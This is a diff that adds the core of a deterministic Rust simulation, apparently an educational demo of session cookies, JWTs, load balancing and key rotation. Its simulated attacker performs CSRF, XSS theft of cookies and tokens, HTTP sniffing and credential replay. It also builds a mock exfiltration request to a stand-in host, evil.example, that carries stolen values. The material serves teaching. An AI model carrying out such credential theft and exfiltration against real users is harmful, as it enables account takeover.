@@ -1,5 +1,578 @@
 //! The mock world. Pure and deterministic: no leptos, web-sys, js-sys, gloo or
-//! wasm-bindgen in here; time and randomness come in as arguments.
+//! wasm-bindgen in here; time and randomness come in as arguments (a seed, and the
+//! reader's moves of the virtual clock).
+//!
+//! [`World::apply`] is the one entry point: it takes an [`Action`] and returns the
+//! [`Hop`]s it caused, in order. The page animates them, the tests assert on them.
 
+pub mod attacker;
+pub mod balancer;
+pub mod browser;
+pub mod bulk;
+pub mod clock;
 pub mod config;
+pub mod cookie_jar;
+pub mod exchange;
+pub mod hop;
+pub mod http;
+pub mod meters;
+pub mod refresh;
+pub mod rng;
 pub mod scenario;
+pub mod server;
+pub mod session;
+pub mod store;
+pub mod token;
+pub mod users;
+
+use self::attacker::{Attacker, Credential, Loot, Replay, Source};
+use self::balancer::{Balancer, STICKY_COOKIE};
+use self::browser::{Browser, Initiator, PageView, QUOTE_KEY};
+use self::clock::{Clock, Millis};
+use self::config::{AuthMode, Choice, Config, LbPolicy, StoreMode, Transport, EVIL_HOST, MAX_SERVERS, MIN_SERVERS, SITE_HOST};
+use self::exchange::Exchange;
+use self::hop::{abbreviate, server_letter, Actor, Hop, HopKind, Trace};
+use self::http::Request;
+use self::meters::{credential_bytes, Meters};
+use self::rng::{hex, Rng};
+use self::server::{cookie_value, Backend, Db, Server, SESSION_COOKIE};
+use self::session::SessionTable;
+use self::token::{KeyRing, SigningKey};
+use self::users::UserDb;
+use ::http::header::{HeaderName, AUTHORIZATION, COOKIE};
+use ::http::Method;
+use std::collections::BTreeMap;
+
+/// How many exchanges the network list keeps (older ones scroll away; meters keep counting).
+pub const MAX_EXCHANGES: usize = 300;
+
+/// Something the reader (or a scenario) does.
+#[derive(Clone, Debug, PartialEq, Eq)]
+pub enum Action {
+    /// `GET /`.
+    Visit,
+    /// `GET /flights?to=…` — ask for a fare.
+    QuoteFlight {
+        /// Destination (`jeju`, `busan`, `tokyo`).
+        to: String,
+    },
+    /// `POST /flights/buy {count}` — buy the quoted flight.
+    BuyFlight {
+        /// Seats.
+        count: u32,
+    },
+    /// `POST /login {username, password}`.
+    Login {
+        /// Name typed in the form.
+        username: String,
+        /// Password typed in the form.
+        password: String,
+    },
+    /// `GET /me`.
+    Me,
+    /// `GET /admin`.
+    Admin,
+    /// `POST /logout`.
+    Logout,
+    /// `POST /token/refresh`.
+    Refresh,
+    /// `GET /me` with `Authorization: Bearer <token>` — the JWT inspector's send.
+    SendToken {
+        /// The token exactly as edited.
+        token: String,
+    },
+    /// A form on `https://evil.example` posts to `/flights/buy` (the CSRF case).
+    CrossSite,
+    /// Any request from the site's page (method, target, JSON body or empty, extra headers).
+    Custom {
+        /// Method.
+        method: Method,
+        /// Path and query.
+        target: String,
+        /// Body (JSON), may be empty.
+        body: String,
+        /// Extra header lines.
+        headers: Vec<(String, String)>,
+    },
+    /// The attacker's script runs on the site's page and sends home what it can read.
+    StealXss,
+    /// The attacker reads the browser's last request off the wire.
+    StealSniff,
+    /// The attacker replays `GET /me` with the best stolen credential.
+    Replay,
+    /// A server deletes a session (forced logout, C6).
+    RevokeSession {
+        /// The session id.
+        sid: String,
+    },
+    /// Servers deny an access token by its `jti` (turns the denylist on).
+    RevokeToken {
+        /// The token id.
+        jti: String,
+    },
+    /// A server restarts: what it had in memory is gone.
+    RestartServer(u8),
+    /// New signing key: on one server (`Some(i)`) or all; `graceful` keeps the old key
+    /// accepted (by `kid`) until its tokens expire.
+    RotateKey {
+        /// Which server, or all.
+        server: Option<u8>,
+        /// Keep accepting the previous key.
+        graceful: bool,
+    },
+    /// Switch the auth mode.
+    SetMode(AuthMode),
+    /// Number of servers, 1–4 (a new server starts empty).
+    SetServers(u8),
+    /// Balancer policy.
+    SetLb(LbPolicy),
+    /// Where sessions live (what stays physically where the new mode looks survives).
+    SetStore(StoreMode),
+    /// https or http.
+    SetTransport(Transport),
+    /// Denylist checking on or off.
+    SetDenylist(bool),
+    /// Move the virtual clock forward.
+    Advance(Millis),
+    /// Simulate `count` more users logging in and making one request each.
+    SimulateUsers(u32),
+}
+
+/// The whole simulated world.
+#[derive(Clone, Debug)]
+pub struct World {
+    /// The knobs.
+    pub config: Config,
+    /// Virtual time.
+    pub clock: Clock,
+    rng: Rng,
+    /// The reader's browser.
+    pub browser: Browser,
+    /// The attacker.
+    pub attacker: Attacker,
+    /// The balancer.
+    pub balancer: Balancer,
+    /// Servers A… (as many as `config.servers`).
+    pub servers: Vec<Server>,
+    /// The shared session store.
+    pub shared: SessionTable,
+    /// What all servers share: users, refresh tokens, denylist.
+    pub db: Db,
+    /// The keys a newly added server is configured with.
+    pub cluster_keys: KeyRing,
+    /// The network list, oldest first (the last [`MAX_EXCHANGES`]).
+    pub exchanges: Vec<Exchange>,
+    /// Running totals.
+    pub meters: Meters,
+    /// Exchanges so far (ids are 1-based).
+    pub exchange_count: u32,
+    key_serial: u32,
+}
+
+impl World {
+    /// A new world. `seed` fixes every random choice (session ids, salts, secrets).
+    pub fn new(seed: u64, config: Config) -> Self {
+        let mut rng = Rng::new(seed);
+        let users = UserDb::seeded(&mut rng);
+        let cluster_keys = KeyRing::new("k1", demo_secret(&mut rng));
+        let servers = config.servers.clamp(MIN_SERVERS, MAX_SERVERS);
+        let config = Config { servers, ..config };
+        World {
+            servers: (0..servers).map(|i| Server::new(i, cluster_keys.clone())).collect(),
+            config,
+            clock: Clock::default(),
+            rng,
+            browser: Browser::default(),
+            attacker: Attacker::default(),
+            balancer: Balancer::default(),
+            shared: SessionTable::new(),
+            db: Db { users, refresh: Default::default(), denylist: BTreeMap::new() },
+            cluster_keys,
+            exchanges: Vec::new(),
+            meters: Meters::default(),
+            exchange_count: 0,
+            key_serial: 1,
+        }
+    }
+
+    /// Virtual now.
+    pub fn now(&self) -> Millis {
+        self.clock.now()
+    }
+
+    /// Bytes held in every session store: each server's memory (or replica) and the
+    /// shared store.
+    pub fn store_bytes(&self) -> usize {
+        self.servers.iter().map(|s| s.memory.bytes()).sum::<usize>() + self.shared.bytes()
+    }
+
+    /// The newest exchange, if any.
+    pub fn last_exchange(&self) -> Option<&Exchange> {
+        self.exchanges.last()
+    }
+
+    /// Does what `action` says; returns the hops it caused, in order.
+    pub fn apply(&mut self, action: Action) -> Vec<Hop> {
+        let get = |t: &str| Request::new(Method::GET, SITE_HOST, t);
+        let post = |t: &str, body: serde_json::Value| Request::new(Method::POST, SITE_HOST, t).json(body.to_string());
+        match action {
+            Action::Visit => self.browse(get("/"), Initiator::Site),
+            Action::QuoteFlight { to } => self.browse(get(&format!("/flights?to={}", url_component(&to))), Initiator::Site),
+            Action::BuyFlight { count } => {
+                let mut body = serde_json::json!({ "count": count });
+                if self.config.mode == AuthMode::Token {
+                    // the page script remembers the quote itself and sends it along
+                    if let Some(to) = self.browser.local_storage.get(QUOTE_KEY) {
+                        body["to"] = to.clone().into();
+                    }
+                }
+                self.browse(post("/flights/buy", body), Initiator::Site)
+            }
+            Action::Login { username, password } => self.browse(
+                post("/login", serde_json::json!({ "username": username, "password": password })),
+                Initiator::Site,
+            ),
+            Action::Me => self.browse(get("/me"), Initiator::Site),
+            Action::Admin => self.browse(get("/admin"), Initiator::Site),
+            Action::Logout => self.browse(post("/logout", serde_json::json!({})), Initiator::Site),
+            Action::Refresh => self.browse(post("/token/refresh", serde_json::json!({})), Initiator::Site),
+            Action::SendToken { token } => match get("/me").try_with(AUTHORIZATION, &format!("Bearer {token}")) {
+                Ok(req) => self.browse(req, Initiator::Site),
+                Err(e) => {
+                    self.browser.page = PageView::Error { status: 0, message: e.to_string() };
+                    self.browser.notes = vec![e.to_string()];
+                    Vec::new()
+                }
+            },
+            Action::CrossSite => self.browse(post("/flights/buy", serde_json::json!({ "count": 1 })), Initiator::EvilPage),
+            Action::Custom { method, target, body, headers } => {
+                let mut req = Request::new(method, SITE_HOST, &target);
+                if !body.is_empty() {
+                    req = req.json(body);
+                }
+                for (name, value) in headers {
+                    match HeaderName::from_bytes(name.as_bytes()) {
+                        Ok(n) => match req.clone().try_with(n, &value) {
+                            Ok(r) => req = r,
+                            Err(e) => self.browser.notes = vec![e.to_string()],
+                        },
+                        Err(_) => self.browser.notes = vec![format!("invalid header name {name:?} dropped")],
+                    }
+                }
+                self.browse(req, Initiator::Site)
+            }
+            Action::StealXss => self.steal_xss(),
+            Action::StealSniff => self.steal_sniff(),
+            Action::Replay => self.replay(),
+            Action::RevokeSession { sid } => {
+                let mut n = usize::from(self.shared.remove(&sid));
+                for s in &mut self.servers {
+                    if s.memory.remove(&sid) {
+                        n += 1;
+                        s.log(format!("session {} revoked by an admin", abbreviate(&sid)));
+                    }
+                }
+                if n == 0 {
+                    self.browser.notes = vec![format!("session {} was not found", abbreviate(&sid))];
+                }
+                Vec::new()
+            }
+            Action::RevokeToken { jti } => {
+                let exp = self.clock.now_secs() + server::ACCESS_TTL / 1000;
+                self.db.denylist.insert(jti, exp);
+                self.config.denylist = true;
+                Vec::new()
+            }
+            Action::RestartServer(i) => {
+                if let Some(s) = self.servers.get_mut(i as usize) {
+                    let lost = s.memory.len();
+                    s.memory.clear();
+                    s.log(format!("restarted: {lost} session(s) in memory lost"));
+                }
+                Vec::new()
+            }
+            Action::RotateKey { server, graceful } => {
+                self.key_serial += 1;
+                let key = SigningKey { kid: format!("k{}", self.key_serial), secret: demo_secret(&mut self.rng) };
+                let kid = key.kid.clone();
+                match server {
+                    Some(i) => {
+                        if let Some(s) = self.servers.get_mut(i as usize) {
+                            s.keys.rotate(key, graceful);
+                            s.log(format!("signing key rotated to {kid}{}", if graceful { " (old key still accepted)" } else { "" }));
+                        }
+                    }
+                    None => {
+                        self.cluster_keys.rotate(key.clone(), graceful);
+                        for s in &mut self.servers {
+                            s.keys.rotate(key.clone(), graceful);
+                            s.log(format!("signing key rotated to {kid}"));
+                        }
+                    }
+                }
+                Vec::new()
+            }
+            Action::SetMode(m) => {
+                self.config.mode = m;
+                Vec::new()
+            }
+            Action::SetServers(n) => {
+                let n = n.clamp(MIN_SERVERS, MAX_SERVERS);
+                self.servers.truncate(n as usize);
+                while self.servers.len() < n as usize {
+                    let i = self.servers.len() as u8;
+                    self.servers.push(Server::new(i, self.cluster_keys.clone()));
+                }
+                self.config.servers = n;
+                Vec::new()
+            }
+            Action::SetLb(p) => {
+                self.config.lb = p;
+                Vec::new()
+            }
+            Action::SetStore(mode) => {
+                let from = self.config.store;
+                // Sessions survive only where the new strategy still looks for them.
+                let keep_memory = matches!((from, mode), (StoreMode::Memory | StoreMode::Replicated, StoreMode::Memory | StoreMode::Replicated));
+                if !keep_memory {
+                    for s in &mut self.servers {
+                        s.memory.clear();
+                    }
+                }
+                if mode != StoreMode::Shared {
+                    self.shared.clear();
+                }
+                self.config.store = mode;
+                Vec::new()
+            }
+            Action::SetTransport(t) => {
+                self.config.transport = t;
+                Vec::new()
+            }
+            Action::SetDenylist(on) => {
+                self.config.denylist = on;
+                Vec::new()
+            }
+            Action::Advance(by) => {
+                self.clock.advance(by);
+                self.expire();
+                Vec::new()
+            }
+            Action::SimulateUsers(count) => {
+                bulk::simulate(self, count);
+                Vec::new()
+            }
+        }
+    }
+
+    /// Drops what is dead at the current time: sessions in every store, cookies.
+    fn expire(&mut self) {
+        let now = self.now();
+        for s in &mut self.servers {
+            s.memory.purge_expired(now);
+        }
+        self.shared.purge_expired(now);
+        self.browser.jar.remove_expired(now);
+    }
+
+
+    /// A request from the reader's browser.
+    fn browse(&mut self, req: Request, from: Initiator) -> Vec<Hop> {
+        let now = self.now();
+        let (req, note) = self.browser.prepare(req, &self.config, now, from);
+        let path = req.path().to_string();
+        let ex = self.send(Actor::Browser, req, note);
+        let now = self.now();
+        self.browser.receive(&path, &ex.response, &self.config, now);
+        let hops = ex.hops.clone();
+        self.push_exchange(ex);
+        hops
+    }
+
+    /// Sends a request from `actor` through the balancer to a server and back.
+    fn send(&mut self, actor: Actor, req: Request, note: String) -> Exchange {
+        self.exchange_count += 1;
+        let id = self.exchange_count;
+        let started = self.now();
+        let mut trace = Trace::new(id, started);
+        let label = format!("{} {}", req.method, req.target);
+        trace.push(actor, Actor::Balancer, HopKind::Request, label.clone(), req.raw(), note);
+
+        let sticky = cookie_value(&req, STICKY_COOKIE).map(str::to_string);
+        let route = self.balancer.pick(self.config.lb, self.servers.len() as u8, sticky.as_deref(), &mut self.rng);
+        let forwarded = req
+            .clone()
+            .with(HeaderName::from_static("x-forwarded-for"), client_ip(actor))
+            .with(HeaderName::from_static("x-forwarded-proto"), self.config.transport.id());
+        trace.push(Actor::Balancer, Actor::Server(route.server), HopKind::Request, label, forwarded.raw(), route.why.clone());
+
+        let mut backend = Backend {
+            servers: &mut self.servers,
+            shared: &mut self.shared,
+            db: &mut self.db,
+            rng: &mut self.rng,
+            config: self.config,
+            meters: &mut self.meters,
+            now: trace.t,
+        };
+        let (mut res, verdict) = backend.handle(route.server, &forwarded, &mut trace);
+        let status_label = format!("{} {}", res.status.as_u16(), http::reason(res.status));
+        trace.push(Actor::Server(route.server), Actor::Balancer, HopKind::Response, status_label.clone(), res.raw(), verdict);
+        let mut back_note = String::new();
+        if let Some(cookie) = &route.set_sticky {
+            res = res.with(::http::header::SET_COOKIE, cookie);
+            back_note = format!("balancer pins this client to {}", server_letter(route.server));
+        }
+        trace.push(Actor::Balancer, actor, HopKind::Response, status_label, res.raw(), back_note);
+
+        self.balancer.record(id, route.server);
+        self.meters.requests += 1;
+        self.meters.credential_bytes += credential_bytes(&req) as u64;
+        self.meters.add_hops(&trace.hops);
+        self.clock = Clock::at(trace.t);
+        Exchange { id, actor, request: req, response: res, server: route.server, hops: trace.hops, started, finished: self.now() }
+    }
+
+    fn push_exchange(&mut self, ex: Exchange) {
+        self.exchanges.push(ex);
+        if self.exchanges.len() > MAX_EXCHANGES {
+            let extra = self.exchanges.len() - MAX_EXCHANGES;
+            self.exchanges.drain(..extra);
+        }
+    }
+
+    /// A one-hop exchange-less message (XSS exfiltration, sniffing), counted in the meters.
+    fn leak(&mut self, from: Actor, label: String, raw: String, note: String) -> Vec<Hop> {
+        let mut trace = Trace::new(0, self.now());
+        trace.push(from, Actor::Attacker, HopKind::Leak, label, raw, note);
+        self.meters.add_hops(&trace.hops);
+        trace.hops
+    }
+
+    fn steal_xss(&mut self) -> Vec<Hop> {
+        let now = self.now();
+        let readable = self.browser.script_readable(&self.config, now);
+        let mut got = Vec::new();
+        for (what, value) in &readable {
+            let credential = match what.as_str() {
+                "localStorage access_token" => Credential::Bearer(value.clone()),
+                w if w.starts_with("cookie ") => Credential::Cookie { name: w[7..].to_string(), value: value.clone() },
+                w => Credential::Other { what: w.to_string(), value: value.clone() },
+            };
+            got.push(credential.describe());
+            self.attacker.take(Loot { source: Source::Xss, credential });
+        }
+        let hidden: Vec<String> = self.browser.jar.iter().filter(|c| c.http_only).map(|c| c.name.clone()).collect();
+        let mut summary = if got.is_empty() { "script read nothing".to_string() } else { format!("script read {}", got.join(", ")) };
+        if !hidden.is_empty() {
+            summary.push_str(&format!("; HttpOnly kept {} out of reach", hidden.join(", ")));
+        }
+        self.attacker.last_attempt = Some(summary.clone());
+        let payload: Vec<String> = readable.iter().map(|(k, v)| format!("{}={}", url_component(k), url_component(v))).collect();
+        let raw = format!("GET /collect?{} HTTP/1.1\r\nHost: {EVIL_HOST}\r\n\r\n", payload.join("&"));
+        self.leak(Actor::Browser, "XSS → evil.example".into(), raw, summary)
+    }
+
+    fn steal_sniff(&mut self) -> Vec<Hop> {
+        if self.config.transport == Transport::Https {
+            let msg = "https: the eavesdropper sees only encrypted bytes and the host name".to_string();
+            self.attacker.last_attempt = Some(msg.clone());
+            return self.leak(Actor::Browser, "sniff (TLS)".into(), String::new(), msg);
+        }
+        let Some(ex) = self.exchanges.iter().rev().find(|e| e.actor == Actor::Browser) else {
+            let msg = "no traffic to read yet".to_string();
+            self.attacker.last_attempt = Some(msg.clone());
+            return Vec::new();
+        };
+        let req = ex.request.clone();
+        let res = ex.response.clone();
+        let mut got = Vec::new();
+        if let Some(cookies) = req.header(&COOKIE) {
+            for kv in cookies.split("; ") {
+                if let Some((name, value)) = kv.split_once('=') {
+                    got.push(Credential::Cookie { name: name.into(), value: value.into() });
+                }
+            }
+        }
+        if let Some(token) = req.header(&AUTHORIZATION).and_then(|h| h.strip_prefix("Bearer ")) {
+            got.push(Credential::Bearer(token.into()));
+        }
+        for set in res.header_values(&::http::header::SET_COOKIE) {
+            if let Some((name, rest)) = set.split_once('=') {
+                let value = rest.split(';').next().unwrap_or("");
+                if !value.is_empty() {
+                    got.push(Credential::Cookie { name: name.into(), value: value.into() });
+                }
+            }
+        }
+        if let Ok(body) = serde_json::from_str::<serde_json::Value>(&res.body) {
+            if let Some(t) = body.get("access_token").and_then(|v| v.as_str()) {
+                got.push(Credential::Bearer(t.into()));
+            }
+        }
+        let summary = if got.is_empty() {
+            "plain http: read the whole request, but it carried no credential".to_string()
+        } else {
+            format!("plain http: read {}", got.iter().map(Credential::describe).collect::<Vec<_>>().join(", "))
+        };
+        for credential in got {
+            self.attacker.take(Loot { source: Source::Sniff, credential });
+        }
+        self.attacker.last_attempt = Some(summary.clone());
+        let raw = format!("{}{}", req.raw(), res.raw());
+        self.leak(Actor::Browser, "sniffed (http)".into(), raw, summary)
+    }
+
+    fn replay(&mut self) -> Vec<Hop> {
+        let mut req = Request::new(Method::GET, SITE_HOST, "/me");
+        let used = match self.attacker.best().cloned() {
+            Some(Credential::Bearer(t)) => {
+                req = req.with(AUTHORIZATION, &format!("Bearer {t}"));
+                format!("bearer token {}", abbreviate(&t))
+            }
+            Some(Credential::Cookie { name, value }) => {
+                req = req.with(COOKIE, &format!("{name}={value}"));
+                format!("cookie {name}={}", abbreviate(&value))
+            }
+            _ => "nothing stolen: no credential".to_string(),
+        };
+        let ex = self.send(Actor::Attacker, req, format!("replay with {used}"));
+        let message = ex
+            .response
+            .error_message()
+            .or_else(|| serde_json::from_str::<serde_json::Value>(&ex.response.body).ok()?.get("user")?.as_str().map(|u| format!("logged in as {u}")))
+            .unwrap_or_default();
+        self.attacker.last_replay = Some(Replay { status: ex.response.status.as_u16(), message, used });
+        let hops = ex.hops.clone();
+        self.push_exchange(ex);
+        hops
+    }
+}
+
+/// A demo secret (never a real one): `demo-<hex>`.
+fn demo_secret(rng: &mut Rng) -> Vec<u8> {
+    format!("demo-{}", hex(&rng.bytes::<16>())).into_bytes()
+}
+
+fn client_ip(actor: Actor) -> &'static str {
+    match actor {
+        Actor::Attacker => "203.0.113.66",
+        _ => "198.51.100.7",
+    }
+}
+
+/// Percent-encodes everything but unreserved characters.
+pub fn url_component(s: &str) -> String {
+    let mut out = String::with_capacity(s.len());
+    for b in s.bytes() {
+        if b.is_ascii_alphanumeric() || b"-._~".contains(&b) {
+            out.push(b as char);
+        } else {
+            out.push_str(&format!("%{b:02X}"));
+        }
+    }
+    out
+}
+
+/// The session cookie's name (re-exported for the page).
+pub const SID: &str = SESSION_COOKIE;
